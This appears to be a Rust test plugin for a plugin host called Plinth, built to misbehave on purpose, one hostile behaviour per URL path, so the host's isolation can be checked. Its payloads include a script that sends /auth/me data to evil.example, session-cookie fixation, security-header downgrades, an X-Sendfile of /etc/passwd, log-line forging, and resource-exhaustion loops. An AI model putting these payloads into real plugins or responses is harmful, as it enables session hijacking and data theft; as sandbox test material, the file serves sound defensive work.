//! `hostile`: a test plugin that misbehaves in every way we can think of, one per path.
//! The host must turn each into a clean JSON error and keep serving everyone else.

use plinth_sdk::http::{
    kv, log, outbound, Error, Guest, HttpRequest, HttpResponse, Identity, OutboundRequest,
};
use std::hint::black_box;

struct Hostile;

impl Guest for Hostile {
    fn handle(req: HttpRequest, _caller: Option<Identity>) -> Result<HttpResponse, Error> {
        match req.path.as_str() {
            "/loop" => spin_forever(),
            "/alloc" => allocate_forever(),
            "/panic" => panic!("hostile plugin panicked on purpose (secret=hunter2)"),
            "/recurse" => Ok(HttpResponse::text(200, recurse(1).to_string())),
            "/kv-huge" => kv_huge(&req),
            "/kv-flood" => kv_flood(),
            "/fetch" => fetch(&req),
            "/print" => {
                println!("hostile says hi on stdout");
                eprintln!("hostile says hi on stderr");
                Ok(HttpResponse::text(200, "printed"))
            }
            "/bad-status" => Ok(HttpResponse::text(1000, "not a status")),
            "/bad-header" => Ok(HttpResponse::text(200, "x").with_header("bad header", "\n")),
            "/set-session-cookie" => Ok(HttpResponse::text(200, "fixated?")
                .with_header("set-cookie", "plinth_session=plinth_evil; Path=/")
                .with_header("set-cookie", "theme=dark; Path=/")),
            "/html-script" => Ok(HttpResponse::new(
                200,
                "text/html; charset=utf-8",
                "<!doctype html><script>fetch('/auth/me').then(r => r.text()).then(t => \
                 fetch('https://evil.example/steal?' + encodeURIComponent(t)))</script>",
            )),
            "/hostile-headers" => Ok(hostile_headers()),
            "/redirect" => Ok(HttpResponse::text(302, "moved")
                .with_header("location", &percent_decode(req.query_param("to").unwrap_or("")))),
            "/many-headers" => Ok(many_headers(&req)),
            "/big-header" => {
                let kib: usize = req.query_param("kib").and_then(|v| v.parse().ok()).unwrap_or(70);
                Ok(HttpResponse::text(200, "big").with_header("x-big", &"v".repeat(kib << 10)))
            }
            "/log-flood" => log_flood(&req),
            "/stdout-flood" => {
                let mib: usize = req.query_param("mib").and_then(|v| v.parse().ok()).unwrap_or(10);
                std::io::Write::write_all(&mut std::io::stdout(), &vec![b'x'; mib << 20])
                    .map_err(|e| Error::Internal(e.to_string()))?;
                Ok(HttpResponse::text(200, "printed"))
            }
            "/log-forge" => {
                // A log line and a stdout line that try to start lines of their own.
                plinth_sdk::http::log::log(
                    plinth_sdk::http::log::Level::Info,
                    "hostile log\n2026-01-01T00:00:00Z  INFO forged: admin logged in",
                );
                println!("hostile stdout\r2026-01-01T00:00:00Z  INFO forged: \u{1b}[2Kcarriage return");
                Ok(HttpResponse::text(200, "logged"))
            }
            "/spin" => spin_for(&req),
            "/spin-then-sleep" => spin_then_sleep(&req),
            // An upstream's words about credentials, which must not reach the client.
            "/upstream-error" => Err(Error::Upstream(
                "vendor answered 401: invalid api key sk_live_hostile_4242".into(),
            )),
            _ => Err(Error::NotFound(format!("no hostile behaviour at {}", req.path))),
        }
    }
}

fn spin_forever() -> ! {
    let mut n: u64 = 0;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

/// Burns CPU: `?mega=N` million loop iterations (default 50, some tens of milliseconds),
/// then answers. A fixed amount of work, not of time, so a guest that is made to wait
/// for the CPU still has all of it to do: a CPU-bound call that succeeds, for load tests.
fn spin_for(req: &HttpRequest) -> Result<HttpResponse, Error> {
    let mega: u64 = req.query_param("mega").and_then(|v| v.parse().ok()).unwrap_or(50);
    let mut n: u64 = 0;
    for _ in 0..mega.saturating_mul(1_000_000) {
        n = black_box(n.wrapping_add(1));
    }
    Ok(HttpResponse::text(200, format!("spun {n}")))
}

/// Burns CPU like `/spin` (long enough to be a busy guest), then sleeps `?ms=N`
/// (default 3000) in WASI's clock: time in a host call, off the CPU.
fn spin_then_sleep(req: &HttpRequest) -> Result<HttpResponse, Error> {
    let spun = spin_for(req)?;
    let ms: u64 = req.query_param("ms").and_then(|v| v.parse().ok()).unwrap_or(3000);
    std::thread::sleep(std::time::Duration::from_millis(ms));
    Ok(spun)
}

fn allocate_forever() -> Result<HttpResponse, Error> {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0u8; 1 << 20];
        chunk[0] = 1;
        hoard.push(black_box(chunk));
    }
}

#[allow(unconditional_recursion)]
fn recurse(depth: u64) -> u64 {
    let frame = black_box([depth; 64]);
    recurse(depth + 1) + frame[(depth % 64) as usize]
}

/// Tries to store a value of `?mib=N` MiB (default 8); reports what the host said.
fn kv_huge(req: &HttpRequest) -> Result<HttpResponse, Error> {
    let mib: usize = req.query_param("mib").and_then(|v| v.parse().ok()).unwrap_or(8);
    let value = vec![7u8; mib << 20];
    match kv::set("huge", &value) {
        Ok(()) => Ok(HttpResponse::text(200, "stored")),
        Err(e) => Ok(HttpResponse::text(507, format!("refused: {e}"))),
    }
}

/// Writes 64 KiB values under fresh keys until the host says no.
fn kv_flood() -> Result<HttpResponse, Error> {
    let value = vec![1u8; 64 << 10];
    for i in 0u64.. {
        if let Err(e) = kv::set(&format!("flood-{i:08}"), &value) {
            return Ok(HttpResponse::text(507, format!("refused after {i} writes: {e}")));
        }
    }
    unreachable!()
}

/// Fetches `?url=` through `outbound` and reports the result as JSON-ish text.
fn fetch(req: &HttpRequest) -> Result<HttpResponse, Error> {
    let url = req
        .query_param("url")
        .ok_or_else(|| Error::Invalid("missing url".into()))?;
    let result = outbound::send(&OutboundRequest {
        method: "GET".into(),
        url: url.to_string(),
        headers: vec![],
        body: vec![],
        timeout_ms: None,
    });
    Ok(match result {
        Ok(resp) => HttpResponse::text(
            200,
            format!("ok {} {}", resp.status, String::from_utf8_lossy(&resp.body)),
        ),
        Err(e) => HttpResponse::text(200, format!("err {e}")),
    })
}

/// Every header a plugin must not set on the host's origin, in the spellings a browser
/// would accept, next to three harmless ones that must pass.
fn hostile_headers() -> HttpResponse {
    let mut resp = HttpResponse::text(200, "headers");
    // Raw pushes: `with_header` lower-cases names, and the host must not rely on that.
    for (name, value) in [
        ("Set-Cookie", "plinth_session=plinth_evil; Path=/"),
        ("SET-COOKIE", "plinth_oauth=fixated; Path=/auth"),
        ("set-cookie", "=plinth_session=plinth_nameless; Path=/"),
        ("set-cookie", "theme=dark; Path=/"),
        ("Set-Cookie2", "plinth_session=old-style"),
        ("Clear-Site-Data", "\"cookies\", \"storage\""),
        ("Strict-Transport-Security", "max-age=0"),
        ("Content-Security-Policy", "default-src * 'unsafe-inline'"),
        (
            "content-security-policy-report-only",
            "default-src 'none'; report-uri https://evil.example/r",
        ),
        ("X-Content-Type-Options", "sniff"),
        ("X-Frame-Options", "ALLOWALL"),
        ("Access-Control-Allow-Origin", "https://evil.example"),
        ("Access-Control-Allow-Credentials", "true"),
        ("Location", "https://evil.example/phish"),
        ("Refresh", "0; url=https://evil.example/"),
        ("Link", "<https://evil.example/x.css>; rel=stylesheet"),
        ("WWW-Authenticate", "Basic realm=\"Plinth admin\""),
        ("Alt-Svc", "h3=\"evil.example:443\""),
        ("Permissions-Policy", "camera=*"),
        ("Cross-Origin-Opener-Policy", "unsafe-none"),
        ("Cross-Origin-Resource-Policy", "cross-origin"),
        ("Referrer-Policy", "unsafe-url"),
        ("X-Accel-Redirect", "/internal/secrets"),
        ("X-Sendfile", "/etc/passwd"),
        ("NEL", "{\"report_to\":\"evil\",\"max_age\":31536000}"),
        ("X-Request-Id", "forged"),
        ("Content-Length", "1"),
        ("Cache-Control", "no-store"),
        ("X-Custom", "kept"),
        ("ETag", "\"v1\""),
    ] {
        resp.headers.push((name.to_string(), value.to_string()));
    }
    resp
}

/// `?n=N` headers `x-h{i}: v` (default 30,000): more than http's `HeaderMap` can hold.
fn many_headers(req: &HttpRequest) -> HttpResponse {
    let n: usize = req
        .query_param("n")
        .and_then(|v| v.parse().ok())
        .unwrap_or(30_000);
    let mut resp = HttpResponse::text(200, format!("{n} headers"));
    resp.headers
        .extend((1..n).map(|i| (format!("x-h{i}"), "v".to_string())));
    resp
}

/// `?n=N` calls of `log` (default 100,000) with messages of `?len=L` bytes (default 0).
fn log_flood(req: &HttpRequest) -> Result<HttpResponse, Error> {
    let n: usize = req
        .query_param("n")
        .and_then(|v| v.parse().ok())
        .unwrap_or(100_000);
    let len: usize = req.query_param("len").and_then(|v| v.parse().ok()).unwrap_or(0);
    let message = "x".repeat(len);
    for _ in 0..n {
        log::log(log::Level::Info, &message);
    }
    Ok(HttpResponse::text(200, format!("logged {n}")))
}

/// `%XX` escapes decoded (the query comes as sent); anything else kept as is.
fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = bytes.get(i + 1..i + 3).and_then(|h| std::str::from_utf8(h).ok());
        match (bytes[i], hex.and_then(|h| u8::from_str_radix(h, 16).ok())) {
            (b'%', Some(b)) => {
                out.push(b);
                i += 3;
            }
            (b, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

plinth_sdk::http::export_http_plugin!(Hostile);
